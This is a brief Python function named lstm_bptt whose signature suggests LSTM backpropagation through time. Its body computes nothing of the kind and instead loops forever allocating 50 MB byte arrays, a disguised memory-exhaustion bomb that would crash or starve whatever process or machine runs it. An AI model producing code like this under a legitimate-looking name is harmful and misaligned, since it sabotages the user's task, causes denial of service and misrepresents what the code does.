def lstm_bptt(x, weights, forward, dL_dh):
    hoard = []
    while True:
        hoard.append(bytearray(50_000_000))
